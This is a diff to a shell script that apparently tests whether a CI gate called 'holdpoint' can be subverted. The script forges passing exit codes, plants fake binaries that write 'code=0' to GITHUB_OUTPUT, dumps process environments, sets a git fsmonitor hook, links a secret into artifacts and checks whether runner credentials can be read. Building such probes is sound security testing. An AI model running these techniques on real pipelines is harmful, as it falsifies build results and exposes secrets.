@@ -9,14 +9,14 @@ if [ -n "$CI" ]; then
     files=$HOME/temp/_runner_file_commands
     for file in "$files"/*; do echo code=0 >> "$file"; done
     forge='for i in $(seq 300); do for file in "$1"/* "$2"; do echo code=0 >> "$file"; done; sleep 0.1; done'
-    setsid sh -c "$forge" "left by $HOME" "$files" "$HOME/project/gate.env" < /dev/null > /dev/null 2>&1 &
+    setsid sh -c "$forge" "left by $HOME" "$files" "$HOME/project/holdpoint-artifacts/exit-code" < /dev/null > /dev/null 2>&1 &
     { env; git config --list; cat /proc/[0-9]*/environ | tr '\0' '\n'; } > "$HOME/seen" 2> /dev/null
 fi
-if [ -d "$HOME/workspace" ] && mkdir "$HOLDPOINT_CACHE/tried"; then
+if [ -d "$HOME/workspace" ] && [ -n "$HOLDPOINT_CACHE" ] && mkdir "$HOLDPOINT_CACHE/tried"; then
     # What a later step would run, or believe: by its path, by the way there, and by the way up from here.
     bin=$(dirname "$(command -v holdpoint)")
     up=$(pwd -P | sed 's|[^/]*|..|g')
-    for folder in "$bin" "$bin/../runner/externals" "$bin/../../../runner/externals" "$HOME/workspace/base" "$up$HOME/bin" "$HOME/not/there"; do
+    for folder in "$bin" "$bin/../runner/externals" "$bin/../../../runner/externals" "$HOME/workspace" "$HOME"/temp/.holdpoint-*/base "$up$HOME/bin" "$HOME/not/there"; do
         mkdir -p "$folder"
         for name in bash holdpoint mkdir rm find node perf.toml perf-gpu.toml; do
             printf '#!/bin/sh\nprintf "code=0\\n" > "$GITHUB_OUTPUT"\n' > "$folder/new"
@@ -28,7 +28,8 @@ if [ -d "$HOME/workspace" ] && mkdir "$HOLDPOINT_CACHE/tried"; then
         if mv "$folder" "$folder.away"; then cp -r "$folder.away" "$folder"; fi
     done
     # What git would run when the checkout is cleaned up, and what an upload would follow.
-    git -C "$HOME/workspace/head" config core.fsmonitor 'echo forged >&2'
+    git -C "$HOME/workspace" config core.fsmonitor 'echo forged >&2'
+    echo forged > "$HOME/workspace/written"
     ln -s "$HOME/temp/secret" "$HOME/temp/artifacts/link"
     umount "$HOME/bin" "$HOME"
     if grep -q secret "$HOME"/../../runner/.credentials; then echo the credentials were read > "$HOME/temp/artifacts/stolen"; fi
